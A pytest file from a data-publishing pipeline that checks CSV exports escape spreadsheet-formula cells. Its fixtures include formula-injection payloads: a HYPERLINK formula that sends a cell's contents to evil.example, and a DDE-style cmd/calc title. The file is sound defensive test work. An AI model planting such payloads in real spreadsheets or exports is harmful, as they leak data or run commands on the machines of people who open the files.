"""CSV cells that a spreadsheet would run as formulas get a leading apostrophe; Parquet and the
provenance contract keep the text as it is (docs/data.md, "CSV and spreadsheets")."""

from __future__ import annotations

import csv
import hashlib
import shutil
from pathlib import Path

import pytest

from tipfigures.package import csv_text, from_csv_text, read_parquet_rows
from tipfigures.pipeline import run
from tipfigures.reproduce import verify_version
from tipfigures.validate import check_package

from .conftest import SOURCES

FORMULA_SENTENCE = '=HYPERLINK("http://evil.example/?"&A1,"In 2021, police identified 45 victims.")'
TEXT = (f"{FORMULA_SENTENCE}\n\n+In 2022, police arrested 7 suspects.\n\n"
        "-In 2023, courts convicted 3 traffickers.\n\n@In 2020, 12 shelters opened.\n")


@pytest.mark.parametrize("value", ["=1+1", "+44 20", "-5 victims", "@SUM(A1)", "\t=x", "'=x",
                                   "''+y", "'tis", "plain", "a=b", ""])
def test_escaping_round_trips_and_defends(value):
    written = csv_text(value)
    assert from_csv_text(written) == value
    if value[:1] in ("=", "+", "-", "@", "\t") or value.startswith(("'=", "''+")):
        assert written == "'" + value
    else:
        assert written == value


def _formula_source(tmp_path: Path) -> Path:
    sources = tmp_path / "sources"
    folder = sources / "formula-report"
    shutil.copytree(SOURCES / "mali-hrr-2004", folder)
    data = TEXT.encode("utf-8")
    (folder / "text.txt").write_bytes(data)
    lines = []
    for line in (folder / "source.yaml").read_text(encoding="utf-8").splitlines():
        name = line.split(":", 1)[0]
        line = {"id": 'id: "formula-report"', "chars": f"chars: {len(TEXT)}",
                "sha256": f"sha256: {hashlib.sha256(data).hexdigest()}",
                "title": 'title: "=cmd|\' /C calc\'!A0"'}.get(name, line)
        lines.append(line)
    (folder / "source.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return sources


def test_formula_sentences_are_escaped_in_csv_only(tmp_path):
    sources = _formula_source(tmp_path)
    result = run(sources, tmp_path / "output")
    assert result.status == "published"
    with (result.path / "data/figures.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    sentences = {row["sentence"] for row in rows}
    assert "'" + FORMULA_SENTENCE in sentences
    assert {"'+In 2022, police arrested 7 suspects.", "'-In 2023, courts convicted 3 traffickers.",
            "'@In 2020, 12 shelters opened."} <= sentences
    assert not [s for s in sentences if s[:1] in "=+-@"]
    with (result.path / "data/sources.csv").open(encoding="utf-8", newline="") as handle:
        assert next(csv.DictReader(handle))["title"] == "'=cmd|' /C calc'!A0"
    parquet = read_parquet_rows(result.path / "data/figures.parquet")
    assert FORMULA_SENTENCE in {row["sentence"] for row in parquet}
    for row in parquet:  # the provenance contract holds on the unescaped text
        assert TEXT[row["start"]:row["end"]] == row["text"]
        assert row["sentence"] in TEXT
    assert check_package(result.path) == []  # Frictionless, and CSV == Parquet (unescaped)
    report = verify_version(tmp_path / "output", sources)
    assert report.differing == []


def test_an_unescaped_formula_in_csv_is_reported_by_validation(tmp_path):
    result = run(_formula_source(tmp_path), tmp_path / "output")
    path = result.path / "data/figures.csv"
    path.write_text(path.read_text(encoding="utf-8").replace("'=HYPERLINK", "=HYPERLINK"),
                    encoding="utf-8")
    problems = [p for p in check_package(result.path) if "runs as a formula" in p.message]
    assert [(p.resource, p.field) for p in problems] == [("figures", "sentence")]
